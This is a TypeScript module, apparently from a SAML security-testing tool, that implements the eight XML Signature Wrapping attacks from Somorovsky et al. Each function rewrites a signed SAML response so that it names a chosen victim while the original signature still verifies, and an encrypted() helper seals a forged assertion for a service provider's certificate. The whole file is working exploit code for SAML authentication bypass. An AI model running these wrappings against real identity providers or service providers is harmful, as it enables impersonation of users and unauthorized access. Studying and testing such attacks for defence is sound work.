import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';

/**
 * Signature wrapping: a signed answer in which somebody else is put where a careless reader looks, while the signature still fits what it was made for. The eight ways of
 * Somorovsky et al., “On Breaking SAML: Be Whoever You Want to Be” (2012). 1 and 2 need a signed response, the others a signed assertion.
 */
export const wrappings: Readonly<Record<string, (xml: string, victim: string) => string>> = {
  'XSW 1': (xml, victim) => {
    const { signature, bare, evil } = ofResponse(xml, victim);
    return evil.replace(
      marker,
      signature.replace(/<\/(ds:)?Signature>$/, (end) => `${bare}${end}`),
    );
  },
  'XSW 2': (xml, victim) => {
    const { signature, bare, evil } = ofResponse(xml, victim);
    return evil.replace(marker, `${bare}${signature}`);
  },
  'XSW 3': (xml, victim) => {
    const { assertion, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, `${evil}${assertion}`);
  },
  'XSW 4': (xml, victim) => {
    const { assertion, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, evil.replace(/<\/saml:Assertion>$/, `${assertion}</saml:Assertion>`));
  },
  'XSW 5': (xml, victim) => {
    const { assertion, signature, bare, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, `${afterIssuer(evil, signature)}${bare}`);
  },
  'XSW 6': (xml, victim) => {
    const { assertion, signature, bare, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, afterIssuer(evil, within(signature, bare)));
  },
  'XSW 7': (xml, victim) => {
    const { assertion, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
  },
  'XSW 8': (xml, victim) => {
    const { assertion, signature, bare, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, afterIssuer(evil, within(signature, `<Object>${bare}</Object>`)));
  },
};

const marker = '<wrapped/>';
const signatureIn = /<((?:ds:)?Signature)[\s>][\s\S]*?<\/\1>/;
const afterIssuer = (xml: string, more: string): string =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
const within = (signature: string, more: string): string =>
  signature.replace(/<\/(ds:)?Signature>$/, (end) => `${more}${end}`);
const named = (xml: string, victim: string): string =>
  xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`).replaceAll(/ID="_/g, 'ID="_evil');

function ofAssertion(xml: string, victim: string) {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
  const signature = signatureIn.exec(assertion)?.[0] ?? '';
  if (signature === '') throw new Error('The assertion has no signature to wrap.');
  const bare = assertion.replace(signature, '');
  return { assertion, signature, bare, evil: named(bare, victim) };
}

/** The response is signed, its assertion may be, too. */
function ofResponse(xml: string, victim: string) {
  const outside = xml.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, '');
  const signature = signatureIn.exec(outside)?.[0] ?? '';
  if (signature === '') throw new Error('The response has no signature to wrap.');
  const bare = xml.replace(signature, '');
  const unsigned = named(bare.replace(signatureIn, ''), victim);
  return { signature, bare, evil: unsigned.replace('<samlp:Status>', `${marker}<samlp:Status>`) };
}

/** An answer whose assertion, or what was made of it, is encrypted for whoever has the key of this certificate: anybody can do that. */
export function encrypted(xml: string, certificate: string): string {
  const [, before = '', inside = ''] =
    /^([\s\S]*<\/samlp:Status>)([\s\S]*)<\/samlp:Response>$/.exec(xml) ?? [];
  const [key, iv] = [randomBytes(32), randomBytes(12)];
  const cipher = createCipheriv('aes-256-gcm', key, iv);
  const namespaces =
    'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"';
  const text = inside.replace('<saml:Assertion ', `<saml:Assertion ${namespaces} `);
  const data = Buffer.concat([iv, cipher.update(text, 'utf8'), cipher.final(), cipher.getAuthTag()]);
  const xenc = 'http://www.w3.org/2001/04/xmlenc#';
  const value = (bytes: Buffer): string =>
    `<e:CipherData><e:CipherValue>${bytes.toString('base64')}</e:CipherValue></e:CipherData>`;
  const method = (name: string): string => `<e:EncryptionMethod Algorithm="${name}"/>`;
  const sealed = `<e:EncryptedKey>${method(`${xenc}rsa-oaep-mgf1p`)}${value(publicEncrypt(certificate, key))}</e:EncryptedKey>`;
  const info = `<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#">${sealed}</KeyInfo>`;
  const body = `${method('http://www.w3.org/2009/xmlenc11#aes256-gcm')}${info}${value(data)}`;
  return `${before}<saml:EncryptedAssertion><e:EncryptedData xmlns:e="${xenc}">${body}</e:EncryptedData></saml:EncryptedAssertion></samlp:Response>`;
}
